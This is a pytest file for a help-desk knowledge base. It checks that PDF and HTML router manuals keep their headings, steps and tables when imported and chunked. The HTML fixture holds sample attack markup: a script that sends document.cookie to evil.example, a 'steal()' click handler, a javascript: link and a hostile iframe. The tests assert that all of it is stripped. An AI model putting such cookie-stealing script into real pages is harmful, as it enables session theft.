"""Manuals: PDF and HTML import keep headings, numbered steps and tables, and the chunks keep them whole."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest
from sqlalchemy.orm import Session

from deskpilot.accounts.principal import Principal
from deskpilot.assist.chunking import chunk_article, split_sentences
from deskpilot.errors import InvalidInput
from deskpilot.kb import importer, service
from deskpilot.kb.html_text import html_to_text
from deskpilot.kb.pdf_text import pdf_to_text
from tests.api.conftest import Clients
from tests.factories import Desk
from tests.kb.pdf_fixture import make_pdf

FOOTER = ("ACME Router X100 user guide", 8.0, False)
MANUAL_PAGES = [
    [("Router X100 manual", 20.0, True), ("Getting started", 14.0, True),
     ("Place the router near the modem. Keep it away from metal objects and micro-", 10.0, False),
     ("wave ovens.", 10.0, False), ("", 10.0, False),
     ("To connect the router:", 10.0, False),
     ("1. Plug the grey cable into the WAN port.", 10.0, False),
     ("2. Press the power button and wait until the", 10.0, False),
     ("   status light turns green.", 10.0, False),
     ("3. Open http://192.168.1.1 in a browser.", 10.0, False),
     ("Safety notes", 10.0, True), ("Do not open the case; there are no user-serviceable parts.", 10.0, False),
     FOOTER, ("1", 9.0, False)],
    [("Status lights", 14.0, True), ("A green light means the router is online.", 10.0, False),
     FOOTER, ("2", 9.0, False)],
    [("Factory reset", 14.0, True), ("Hold the reset button for ten seconds to erase all settings.", 10.0, False),
     FOOTER, ("Page 3 of 3", 9.0, False)],
]

MANUAL_HTML = """<html><head><title>Router X100 lights</title><style>p {color: red}</style>
<script>document.location = "https://evil.example/?c=" + document.cookie</script></head>
<body><nav><a href="/">Home</a></nav><h1>Router X100 lights</h1>
<p onclick="steal()">What the lights on the front mean. <a href="javascript:alert(1)">More</a></p>
<h2>Light colours</h2><p>The status light shows:</p>
<table><tr><th>Colour</th><th>Meaning</th></tr><tr><td>Green</td><td>Online</td></tr>
<tr><td>Amber</td><td>No signal | check the cable</td></tr><tr><td>Red</td><td>Hardware fault</td></tr></table>
<h2>Fix no signal</h2><ol><li>Check the WAN cable.</li><li>Restart the modem.</li></ol>
<iframe src="https://evil.example">frame text</iframe><footer>Copyright ACME</footer></body></html>"""


def test_a_pdf_manual_keeps_its_headings_steps_and_paragraphs() -> None:
    title, text = pdf_to_text("router.pdf", make_pdf(MANUAL_PAGES, title="Router X100 manual"))
    assert title == "Router X100 manual"
    assert text == (
        "# Router X100 manual\n\n## Getting started\n\n"
        "Place the router near the modem. Keep it away from metal objects and microwave ovens.\n\n"
        "To connect the router:\n\n"
        "1. Plug the grey cable into the WAN port.\n"
        "2. Press the power button and wait until the status light turns green.\n"
        "3. Open http://192.168.1.1 in a browser.\n\n"
        "### Safety notes\n\nDo not open the case; there are no user-serviceable parts.\n\n"
        "## Status lights\n\nA green light means the router is online.\n\n"
        "## Factory reset\n\nHold the reset button for ten seconds to erase all settings.")


def test_a_pdf_without_metadata_takes_its_first_heading_as_title() -> None:
    assert pdf_to_text("r.pdf", make_pdf(MANUAL_PAGES[:1]))[0] == "Router X100 manual"


@pytest.mark.parametrize(("data", "problem"), [
    (b"%PDF-1.4 this is not really a pdf", "not a readable PDF"),
    (make_pdf([[]]), "no text layer"),
])
def test_an_unreadable_or_scanned_pdf_is_refused_by_name(data: bytes, problem: str) -> None:
    with pytest.raises(InvalidInput, match=f"scan.pdf: .*{problem}"):
        pdf_to_text("scan.pdf", data)


def test_html_keeps_tables_and_steps_and_drops_everything_executable() -> None:
    title, text = html_to_text(MANUAL_HTML)
    assert title == "Router X100 lights"
    assert text == (
        "# Router X100 lights\n\nWhat the lights on the front mean. More\n\n## Light colours\n\n"
        "The status light shows:\n\n| Colour | Meaning |\n| --- | --- |\n| Green | Online |\n"
        "| Amber | No signal \\| check the cable |\n| Red | Hardware fault |\n\n"
        "## Fix no signal\n\n1. Check the WAN cable.\n2. Restart the modem.")
    for unsafe in ("script", "cookie", "javascript", "onclick", "steal", "evil", "color", "Home", "Copyright"):
        assert unsafe not in text


def test_chunks_keep_a_table_with_its_header_and_intro_and_know_their_section() -> None:
    _, text = html_to_text(MANUAL_HTML)
    chunks = chunk_article("lights", 1, text, max_words=40)
    table = next(c for c in chunks if "| Green | Online |" in c.text)
    assert table.heading_path == ("Router X100 lights", "Light colours")
    assert table.text.startswith("The status light shows:\n| Colour | Meaning |")
    steps = next(c for c in chunks if "1. Check" in c.text)
    assert steps.heading_path[-1] == "Fix no signal" and "2. Restart the modem." in steps.text
    assert "| Amber | No signal \\| check the cable |" in split_sentences(table.text)
    assert not any("---" in unit for unit in split_sentences(table.text))


def test_a_long_table_is_cut_between_rows_and_every_part_repeats_the_header() -> None:
    rows = "\n".join(f"| E{n:02d} | Error number {n} means the cable is loose |" for n in range(40))
    chunks = chunk_article("codes", 1, f"# Codes\n\n| Code | Meaning |\n| --- | --- |\n{rows}\n", max_words=60)
    assert len(chunks) > 2
    for chunk in chunks:
        assert chunk.text.startswith("| Code | Meaning |\n| --- | --- |\n| E")
        assert all(line.startswith("| ") and line.endswith(" |") for line in chunk.text.splitlines())
    assert sum(c.text.count("Error number") for c in chunks) == 40


def test_a_folder_with_a_pdf_and_an_html_manual_imports_with_structure(session: Session, desk: Desk,
                                                                       tmp_path: Path) -> None:
    (tmp_path / "router-x100.pdf").write_bytes(make_pdf(MANUAL_PAGES, title="Router X100 manual"))
    (tmp_path / "router-lights.html").write_text(MANUAL_HTML, encoding="utf-8")
    carol = Principal.of(desk.carol)
    result = importer.import_documents(session, actor=carol, documents=importer.read_folder(tmp_path))
    assert sorted(result.created) == ["router-lights", "router-x100"]
    manual = service.get_by_slug(session, actor=carol, slug="router-x100")
    assert manual.title == "Router X100 manual"
    body = manual.versions[0].body
    assert body.startswith("## Getting started\n\nPlace the router")
    chunks = chunk_article("router-x100", 1, body, max_words=25)
    procedure = next(c for c in chunks if "1. Plug" in c.text)
    assert procedure.heading_path == ("Getting started",)
    assert procedure.text.startswith("To connect the router:\n1. Plug")
    assert "3. Open http://192.168.1.1 in a browser." in procedure.text
    again = importer.import_documents(session, actor=carol, documents=importer.read_folder(tmp_path))
    assert sorted(again.unchanged) == ["router-lights", "router-x100"]


def test_the_api_imports_a_base64_pdf_and_names_a_bad_one(clients: Clients) -> None:
    pdf = base64.b64encode(make_pdf(MANUAL_PAGES, title="Router X100 manual")).decode()
    created = clients["carol"].post("/api/v1/kb/import", json={"files": [
        {"filename": "router-x100.pdf", "content": pdf, "encoding": "base64"}]})
    assert created.status_code == 200, created.text
    assert created.json()["created"] == ["router-x100"]
    not_base64 = clients["carol"].post("/api/v1/kb/import", json={"files": [
        {"filename": "manual.pdf", "content": "%%% not base64", "encoding": "base64"}]})
    assert not_base64.status_code == 422
    assert "manual.pdf: the content is not valid base64" in not_base64.json()["message"]
    not_ascii = clients["carol"].post("/api/v1/kb/import", json={"files": [
        {"filename": "manual.pdf", "content": "Ünïcode", "encoding": "base64"}]})
    assert not_ascii.status_code == 422
    assert "manual.pdf: the content is not valid base64" in not_ascii.json()["message"]
    as_text = clients["carol"].post("/api/v1/kb/import", json={"files": [
        {"filename": "manual.pdf", "content": "%PDF-1.4", "encoding": "text"}]})
    assert as_text.status_code == 422 and "base64" in as_text.json()["message"]
    broken = clients["carol"].post("/api/v1/kb/import", json={"files": [
        {"filename": "broken.pdf", "content": base64.b64encode(b"%PDF-1.4 junk").decode(), "encoding": "base64"}]})
    assert broken.status_code == 422 and "broken.pdf: not a readable PDF" in broken.json()["message"]


def test_layout_tables_unclosed_cells_and_forms_lose_no_text() -> None:
    page = ("<form action='/x'><h1>Printer codes</h1><table><tr><td>Menu</td><td>Codes of the P20:"
            "<table><tr><td>E1</td><td>paper jam</td></tr><tr><td>E2</td><td>no toner</td></tr></table>"
            " Call us for others.</td></tr></table><table><tr><th>Tray<th>Paper<tr><td>1<td>A4</table>"
            "<p>Last line.</p></form>")
    assert html_to_text(page)[1] == (
        "# Printer codes\n\n| Menu | Codes of the P20: E1 paper jam ; E2 no toner Call us for others. |\n"
        "| --- | --- |\n\n| Tray | Paper |\n| --- | --- |\n| 1 | A4 |\n\nLast line.")
